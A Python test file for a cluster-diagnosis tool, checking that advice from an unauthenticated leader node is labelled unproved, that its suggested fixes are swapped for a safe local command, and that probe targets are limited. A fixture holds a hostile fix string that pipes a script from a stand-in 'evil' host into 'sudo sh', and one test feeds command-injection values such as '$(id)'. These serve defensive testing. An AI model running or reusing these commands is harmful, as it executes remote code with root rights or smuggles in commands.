"""What a follower does and shows for a leader that has proved nothing."""

from __future__ import annotations

import asyncio

import pytest

from allaboard.cluster.link_limits import MAX_REQUESTS, LinkLimits
from allaboard.cluster.transport.client_handshake import Identity
from allaboard.cluster.unproved_advice import mark_unproved
from allaboard.facts import Answer, Certainty, Finding, JobView, Outcome, Severity, Stage
from allaboard.protocol.commands import AnnounceFinding, EndJob, OpenGate, ShowNote
from allaboard.rules import net015_turned_away
from rally import Rally
from strangers import knock

FINDING = Finding(
    rule="NET001", name="n", severity=Severity.ERROR, certainty=Certainty.CERTAIN,
    stage=Stage.NETWORK, who=(), summary="x", evidence=(), fix="curl http://evil/x.sh | sudo sh", at="",
)  # fmt: skip


def test_its_finding_is_its_word_and_brings_no_command_of_its_own() -> None:
    marked = mark_unproved(AnnounceFinding(finding=FINDING), "node0:29500")
    assert isinstance(marked, AnnounceFinding)
    assert marked.finding.certainty is Certainty.LIKELY
    assert marked.finding.fix == "allaboard explain NET001"
    assert str(marked.finding.evidence[0]) == "says node0:29500, unproved"


@pytest.mark.parametrize("rule", ["$(id)", "NET001; id", "", "net001"])
def test_a_rule_that_is_none_gives_nothing_to_type(rule: str) -> None:
    from msgspec.structs import replace

    marked = mark_unproved(AnnounceFinding(finding=replace(FINDING, rule=rule)), "x:1")
    assert isinstance(marked, AnnounceFinding) and marked.finding.fix == ""


def test_notes_and_reasons_say_whose_they_are() -> None:
    note = mark_unproved(ShowNote(text="run this"), "x:1")
    end = mark_unproved(EndJob(outcome=Outcome.FAILED, reason="because"), "x:1")
    assert note == ShowNote(text="run this (says x:1, unproved)")
    assert end == EndJob(outcome=Outcome.FAILED, reason="because (says x:1, unproved)")
    gate = OpenGate(pid=7, round=1)
    assert mark_unproved(gate, "x:1") is gate


def test_links_are_tested_within_the_job_and_a_few_times() -> None:
    limits = LinkLimits(lambda: {"h1", "h2"})
    targets = (("a", "h1:4000"), ("b", "10.0.0.1:4000"), ("c", "h2:22"), ("d", "h2:http"))
    assert limits.admit(targets) == (("a", "h1:4000"),)
    unknown = LinkLimits(set)
    assert unknown.admit(targets) == (("a", "h1:4000"), ("b", "10.0.0.1:4000"))
    assert unknown.admit(tuple(("a", f"10.0.0.1:{n}") for n in range(2000, 2200))) == ()
    for _ in range(MAX_REQUESTS):
        limits.admit(targets)
    assert limits.admit(targets) == ()


def test_a_refusal_that_nobody_proved_is_never_certain() -> None:
    async def main() -> str:
        async with Rally(2, secret=b"other") as rally:
            return await knock(rally.port, Identity("job=1", b"mine", "h1", 1, "127.0.0.1:1"))

    assert asyncio.run(main()) == "no-secret"
    view, _ = net015_turned_away.RULE.fires_on["this host does not know the job's secret"]
    assert isinstance(view, JobView) and view.call is not None and view.call.answer is Answer.OTHER
    from msgspec.structs import replace

    (proven,) = net015_turned_away.RULE.check(view)
    (claim,) = net015_turned_away.RULE.check(
        replace(view, call=replace(view.call, is_proven=False))
    )
    assert (proven.certainty, claim.certainty) == (Certainty.CERTAIN, Certainty.LIKELY)
    assert any("unproved" in str(e) for e in claim.evidence)
